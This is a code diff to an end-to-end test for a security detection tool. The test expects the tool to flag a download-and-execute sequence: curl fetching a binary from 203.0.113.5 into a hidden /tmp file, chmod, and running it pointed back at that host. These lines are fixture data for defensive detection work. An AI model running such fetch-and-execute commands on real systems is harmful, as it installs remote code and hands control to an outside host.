@@ -75,7 +75,7 @@ describe('detection end to end', () => {
     expect(a.highlights.commands.map((x: { value: string }) => x.value)).toEqual(expect.arrayContaining([
       'curl -s -o /tmp/.x4100 http://203.0.113.5/x', 'chmod +x /tmp/.x4100', '/tmp/.x4100 -c 203.0.113.5',
     ]));
-    expect(a.highlights.destination_ips).toEqual([{ value: '203.0.113.5', count: 1, event_ids: [expect.stringMatching(/:2:2$/)] }]);
+    expect(a.highlights.destination_ips).toEqual([{ value: '203.0.113.5', count: 1, event_ids: [expect.stringMatching(/:2:2$/)], pivot: 'source.ip:"203.0.113.5" or destination.ip:"203.0.113.5"' }]);
     expect(a.highlights.files.map((x: { value: string }) => x.value)).toContain('/tmp/.x4100');
     // every highlighted event id is an event the collector stored
     const curl = a.highlights.commands.find((x: { value: string }) => x.value.startsWith('curl'));
